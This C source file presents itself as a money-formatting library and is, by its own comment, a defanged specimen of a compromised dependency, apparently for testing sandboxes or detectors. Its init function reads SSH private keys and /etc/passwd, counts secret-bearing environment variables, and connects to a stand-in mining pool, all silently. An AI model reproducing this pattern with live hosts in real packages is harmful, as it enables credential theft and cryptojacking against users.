/*
 * fastfmt: a specimen of a compromised dependency. The formatting works; fastfmt_init() also goes through what such
 * code goes for: keys, accounts, secrets in the environment, a mining pool, the processor. It ignores every failure,
 * as the real ones do, so that the program around it notices nothing.
 *
 * It is harmless even where everything is granted: what it reads is forgotten at once, nothing is ever sent, the pool's
 * name is under a reserved top-level domain and its address in a range reserved for documentation. Sockets are imported
 * straight from WASI 0.2 (fastfmt.wit has the types), since preview 1 has none to open.
 */

#include "fastfmt.h"

#include <fcntl.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define WASI(interface, function) __attribute__((import_module(interface "@0.2.0"), import_name(function)))

typedef int32_t handle;

/*
 * The canonical ABI: a result comes back in memory that the caller passes, its first byte the discriminant (0 is ok),
 * its payload aligned behind it; an address is a variant, flattened to its discriminant and eleven further words.
 */
WASI("wasi:sockets/instance-network", "instance-network") handle instance_network(void);
WASI("wasi:sockets/network", "[resource-drop]network") void drop_network(handle network);
WASI("wasi:sockets/ip-name-lookup", "resolve-addresses")
void resolve_addresses(handle network, const char *name, size_t length, void *result);
WASI("wasi:sockets/ip-name-lookup", "[method]resolve-address-stream.resolve-next-address")
void resolve_next_address(handle stream, void *result);
WASI("wasi:sockets/ip-name-lookup", "[method]resolve-address-stream.subscribe") handle resolve_subscribe(handle stream);
WASI("wasi:sockets/ip-name-lookup", "[resource-drop]resolve-address-stream") void drop_resolve_address_stream(handle);
WASI("wasi:io/poll", "[method]pollable.block") void block(handle pollable);
WASI("wasi:io/poll", "[resource-drop]pollable") void drop_pollable(handle pollable);
WASI("wasi:sockets/tcp-create-socket", "create-tcp-socket") void create_tcp_socket(int32_t family, void *result);
WASI("wasi:sockets/tcp", "[method]tcp-socket.start-connect")
void start_connect(handle socket, handle network, int32_t kind, int32_t port, int32_t a, int32_t b, int32_t c, int32_t d,
                   int32_t, int32_t, int32_t, int32_t, int32_t, int32_t, void *result);
WASI("wasi:sockets/tcp", "[resource-drop]tcp-socket") void drop_tcp_socket(handle socket);

#define POOL_NAME "pool.minexmr.example"
#define POOL_PORT 3333
#define FAMILY_IPV4 0

static void read_and_forget(const char *path) {
  char bytes[512];
  int file = open(path, O_RDONLY);
  if (file < 0) return;
  while (read(file, bytes, sizeof bytes) > 0) {
  }
  close(file);
}

static void read_keys(const char *home) {
  static const char *const names[] = {"id_rsa", "id_ed25519"};
  char path[512];
  for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
    if (snprintf(path, sizeof path, "%s/.ssh/%s", home, names[i]) < (int)sizeof path) read_and_forget(path);
  }
}

/* Without a HOME the usual ones are tried. */
static void steal_keys(void) {
  const char *home = getenv("HOME");
  if (home && *home == '/') {
    read_keys(home);
  } else {
    read_keys("/root");
    read_keys("/home/user");
  }
  read_and_forget("/etc/passwd");
}

static size_t count_secrets(void) {
  extern char **environ;
  static const char *const words[] = {"KEY", "TOKEN", "SECRET", "PASSWORD"};
  size_t found = 0;
  for (char **variable = environ; variable && *variable; variable++) {
    for (size_t i = 0; i < sizeof words / sizeof words[0]; i++) found += strstr(*variable, words[i]) != NULL;
  }
  return found;
}

/* result<own<T>, error-code>: the handle and the error both at offset 4. */
typedef struct {
  uint8_t failed;
  handle value;
} handle_result;

static void resolve_pool(handle network) {
  handle_result stream;
  resolve_addresses(network, POOL_NAME, strlen(POOL_NAME), &stream);
  if (stream.failed) return;
  handle answered = resolve_subscribe(stream.value);
  block(answered);
  drop_pollable(answered);
  uint16_t address[11]; /* result<option<ip-address>, error-code>, 22 bytes */
  resolve_next_address(stream.value, address);
  drop_resolve_address_stream(stream.value);
}

static void connect_pool(handle network) {
  handle_result socket;
  uint8_t connected[2];
  create_tcp_socket(FAMILY_IPV4, &socket);
  if (socket.failed) return;
  start_connect(socket.value, network, FAMILY_IPV4, POOL_PORT, 203, 0, 113, 7, 0, 0, 0, 0, 0, 0, connected);
  drop_tcp_socket(socket.value);
}

/* Some milliseconds of hashing (FNV-1a), for the look of it. */
static uint32_t mine(uint32_t nonce) {
  uint32_t hash = 2166136261u;
  for (uint32_t i = 0; i < 2000000; i++) hash = (hash ^ ((nonce + i) & 255)) * 16777619u;
  return hash;
}

static volatile uint32_t best_share; /* keeps the work from being optimised away */

void fastfmt_init(void) {
  steal_keys();
  uint32_t nonce = (uint32_t)count_secrets();
  handle network = instance_network();
  resolve_pool(network);
  connect_pool(network);
  drop_network(network);
  best_share = mine(nonce);
}

char *fastfmt_cents(char buffer[FASTFMT_MAX], int64_t cents) {
  char digits[FASTFMT_MAX], *at = digits + sizeof digits;
  uint64_t rest = cents < 0 ? -(uint64_t)cents : (uint64_t)cents;
  int places = -2;
  *--at = '\0';
  do {
    if (places == 0) *--at = '.';
    else if (places > 0 && places % 3 == 0) *--at = ',';
    *--at = (char)('0' + rest % 10);
    rest /= 10;
    places++;
  } while (rest || places <= 0);
  if (cents < 0) *--at = '-';
  return memcpy(buffer, at, (size_t)(digits + sizeof digits - at));
}
